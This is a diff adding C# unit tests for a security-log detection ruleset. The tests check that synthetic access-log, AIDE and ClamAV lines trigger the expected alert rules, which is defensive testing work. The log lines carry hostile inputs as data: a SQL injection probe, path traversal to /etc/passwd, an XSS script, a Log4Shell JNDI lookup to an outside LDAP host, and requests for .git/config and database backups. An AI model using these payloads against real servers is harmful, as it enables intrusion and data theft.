@@ -131,4 +131,59 @@ public sealed class SpbeRulesTests
 
         Assert.Equal("100130", Rule(Security("sso-login", "success", "199001012020121001", "203.0.113.99")));
     }
+
+    private static string Access(string ip, string request, int status, string tag = "") =>
+        $"{tag}{ip} - - [24/Nov/2026:10:00:00 +0700] \"{request} HTTP/1.1\" {status} 5120 \"-\" \"Mozilla/5.0\"";
+
+    [Fact]
+    public void WebAttacks_AreFlagged_RepeatedOnesEscalate_AndOnesAnsweredWithContentAreSevere()
+    {
+        Assert.Null(Rule(Access("198.51.100.20", "GET /berita/2026/11/rapat.html", 200)));
+        var probe = Access("203.0.113.5", "GET /berita.php?id=1%27%20or%201=1--", 404);
+        var results = Enumerable.Range(0, 10).Select(_ => Rule(probe)).ToList();
+        Assert.All(results[..^1], r => Assert.Equal("100141", r));
+        Assert.Equal("100142", results[^1]);
+
+        // Raw, or behind a syslog header from nginx: the same decoder takes both.
+        Assert.Equal("100143", Rule(Access("203.0.113.6", "GET /unduh.php?file=../../../../etc/passwd", 200, "Nov 24 10:00:00 web01 nginx: ")));
+        Assert.Equal("100141", Rule(Access("203.0.113.6", "GET /cari?q=%3Cscript%3Ealert(1)%3C/script%3E", 200)));
+        Assert.Equal("100141", Rule(Access("203.0.113.6", "GET /?x=${jndi:ldap://203.0.113.6/a}", 400)));
+        Assert.Equal(12, Ruleset.Value.Rules.Find(100143)!.Level);
+    }
+
+    [Fact]
+    public void SensitiveFilesAndMassDownloads_AreDataLeaks()
+    {
+        Assert.Equal("100145", Rule(Access("203.0.113.7", "GET /backup/db_simpeg.sql", 200)));
+        Assert.Equal("100145", Rule(Access("203.0.113.7", "GET /.git/config", 200)));
+        Assert.Null(Rule(Access("203.0.113.7", "GET /backup/db_simpeg.sql", 404)));
+        var downloads = Enumerable.Range(0, 50).Select(i => Rule(Access("203.0.113.8", $"GET /arsip/sk-walikota-{i}.pdf", 200))).ToList();
+        Assert.All(downloads[..^1], r => Assert.Equal("100146", r));
+        Assert.Equal("100147", downloads[^1]);
+    }
+
+    [Fact]
+    public void AideReports_OfTheWebRoot_AreDefacement_AndNewScriptsThere_WebShells()
+    {
+        Assert.Equal("100151", Rule("Nov 24 10:00:00 web01 aide: f   ...    .C... : /var/www/html/index.html"));
+        Assert.Equal("100152", Rule("Nov 24 10:00:00 web01 aide: f++++++++++++++++: /var/www/html/uploads/shell.php"));
+        Assert.Equal("100151", Rule("Nov 24 10:00:00 web01 aide: f----------------: /var/www/html/logo.png"));
+        Assert.Null(Rule("Nov 24 10:00:00 web01 aide: f   ...    .C... : /etc/hosts"));
+    }
+
+    [Fact]
+    public void ClamAvDetections_AreMalware()
+    {
+        Assert.Equal("100156", Rule("Nov 24 10:00:00 web01 clamd[812]: /var/www/html/uploads/x.php: Php.Webshell.Generic-1 FOUND"));
+        Assert.Null(Rule("Nov 24 10:00:00 web01 clamd[812]: SelfCheck: Database status OK."));
+    }
+
+    [Fact]
+    public void ManySignaturesInMinutes_BySomeone_AreSuspicious()
+    {
+        var line = Security("tte-sign", "success", "198501012010011001", "10.1.1.1");
+        var results = Enumerable.Range(0, 30).Select(_ => Rule(line)).ToList();
+        Assert.All(results[..^1], r => Assert.Equal("100111", r));
+        Assert.Equal("100112", results[^1]);
+    }
 }
